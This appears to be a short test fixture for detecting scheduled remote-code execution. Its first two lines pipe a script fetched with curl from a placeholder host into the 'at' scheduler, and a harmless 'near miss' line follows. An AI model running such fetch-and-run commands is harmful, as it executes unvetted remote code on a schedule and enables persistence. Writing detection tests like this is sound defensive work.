curl -s https://a.invalid/s | at now
echo "curl https://a.invalid/s | sh" | at midnight
# near misses
echo "date >> log" | at noon
